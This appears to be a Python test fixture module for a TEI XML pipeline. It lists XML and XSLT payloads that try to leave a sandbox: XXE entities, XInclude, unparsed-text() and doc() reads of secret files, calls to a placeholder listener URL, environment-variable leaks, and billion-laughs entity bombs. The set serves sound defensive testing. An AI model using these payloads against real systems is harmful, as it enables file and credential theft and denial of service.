"""Every way out of the project that a document or a stylesheet can try.

In each text, {file} is the URI of a file with a secret, {url} an address on the listener.
"""

from __future__ import annotations

DOCUMENT = """<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader><fileDesc><titleStmt><title>T</title>
</titleStmt><publicationStmt><p>p</p></publicationStmt><sourceDesc><p>s</p></sourceDesc></fileDesc>
</teiHeader><text><body><p>Text.</p></body></text></TEI>"""


def _document(doctype: str, inside: str) -> str:
    return doctype + DOCUMENT.replace("Text.", f"Text. {inside}")


DOCUMENTS = {
    "entity from a file": _document('<!DOCTYPE TEI [<!ENTITY x SYSTEM "{file}">]>', "&x;"),
    "entity from the net": _document('<!DOCTYPE TEI [<!ENTITY x SYSTEM "{url}">]>', "&x;"),
    "parameter entity from the net": _document(
        '<!DOCTYPE TEI [<!ENTITY % x SYSTEM "{url}.dtd"> %x;]>', ""
    ),
    "parameter entity from a file": _document(
        '<!DOCTYPE TEI [<!ENTITY % x SYSTEM "{dtd}"> %x;]>', "&stolen;"
    ),
    "external DTD from the net": _document('<!DOCTYPE TEI SYSTEM "{url}.dtd">', ""),
    "external DTD from a file": _document('<!DOCTYPE TEI SYSTEM "{dtd}">', "&stolen;"),
    "public DTD from the net": _document('<!DOCTYPE TEI PUBLIC "-//x//y" "{url}.dtd">', ""),
    "inclusion of a file": _document(
        "",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>',
    ),
    "inclusion of XML": _document(
        "", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{xml}"/>'
    ),
    "inclusion from the net": _document(
        "", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}"/>'
    ),
    "inclusion by a moved base": _document(
        "",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" xml:base="{folder}/"'
        ' href="secret.xml"/>',
    ),
    "schema from the net": '<?xml-model href="{url}"?>' + DOCUMENT,
    "stylesheet from the net": '<?xml-stylesheet href="{url}" type="text/xsl"?>' + DOCUMENT,
}

BOMBS = {
    "a billion laughs": _document(
        "<!DOCTYPE TEI [<!ENTITY a0 'ha'>"
        + "".join(f"<!ENTITY a{n + 1} '{f'&a{n};' * 10}'>" for n in range(9))
        + "]>",
        "&a9;",
    ),
    "quadratic blow-up": _document(
        f"<!DOCTYPE TEI [<!ENTITY a '{'x' * 60_000}'>]>", "&a;" * 20_000
    ),
}


def _sheet(inside: str, top: str = "", doctype: str = "") -> str:
    return (
        doctype
        + '<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
        + ' xmlns:xs="http://www.w3.org/2001/XMLSchema">'
        + top
        + f'<xsl:template match="/"><out>{inside}</out></xsl:template></xsl:stylesheet>'
    )


def _value(select: str) -> str:
    return f'<xsl:value-of select="{select}"/>'


_ENTITY = "&lt;!DOCTYPE a [&lt;!ENTITY x SYSTEM &quot;{file}&quot;>]>&lt;a>&amp;x;&lt;/a>"

STYLESHEETS = {
    "doc() of a file": _sheet(_value("doc('{xml}')")),
    "doc() of the net": _sheet(_value("doc('{url}')")),
    "document() of the net": _sheet(_value("document('{url}')")),
    "unparsed-text() of a file": _sheet(_value("unparsed-text('{file}')")),
    "unparsed-text() of the net": _sheet(_value("unparsed-text('{url}')")),
    "unparsed-text-lines() of a file": _sheet(_value("unparsed-text-lines('{file}')")),
    "json-doc() of a file": _sheet(_value("json-doc('{json}')")),
    "collection() of the folder": _sheet(_value("collection('{folder}?select=*.xml')")),
    "source-document of a file": _sheet(
        '<xsl:source-document href="{xml}"><xsl:value-of select="."/></xsl:source-document>'
    ),
    "parse-xml() with an entity": _sheet(_value(f"parse-xml('{_ENTITY}')")),
    "parse-xml() with an entity of the net": _sheet(
        _value(f"parse-xml('{_ENTITY}')".replace("{file}", "{url}"))
    ),
    "evaluate": _sheet("<xsl:evaluate xpath=\"&quot;unparsed-text('{file}')&quot;\"/>"),
    "transform() of a file": _sheet(
        _value("transform(map{{'stylesheet-location':'{xsl}', 'source-node':.}})?output")
    ),
    "environment": _sheet(_value("environment-variable('TEIPIPE_SECRET')")),
    "environment, all": _sheet(
        _value("available-environment-variables() ! environment-variable(.)")
    ),
    "result document": _sheet(
        '<xsl:result-document href="{folder}/written.xml"><leak/></xsl:result-document>'
    ),
    "static variable": _sheet(
        _value("$v"), '<xsl:variable name="v" static="yes" select="unparsed-text(\'{file}\')"/>'
    ),
    "static parameter from the net": _sheet(
        _value("$v"), '<xsl:param name="v" static="yes" select="unparsed-text(\'{url}\')"/>'
    ),
    "use-when": _sheet(
        "x", '<xsl:variable name="v" use-when="unparsed-text(\'{url}\') = \'\'" select="1"/>'
    ),
    "use-when on a result element": _sheet("<b xsl:use-when=\"unparsed-text('{url}') = ''\">x</b>"),
    "shadow attribute": _sheet(
        _value("$v"), '<xsl:variable name="v" _select="{{unparsed-text(\'{url}\')}}"/>'
    ),
    "entity in the stylesheet": _sheet("&x;", doctype='<!DOCTYPE x [<!ENTITY x SYSTEM "{file}">]>'),
    "import from outside": _sheet(
        '<xsl:apply-templates select="*"/>', '<xsl:import href="{xsl}"/>'
    ),
    "import from the net": _sheet("x", '<xsl:import href="{url}"/>'),
    "include by a moved base": _sheet(
        '<xsl:apply-templates select="*"/>', '<xsl:include xml:base="{folder}/" href="other.xsl"/>'
    ),
}
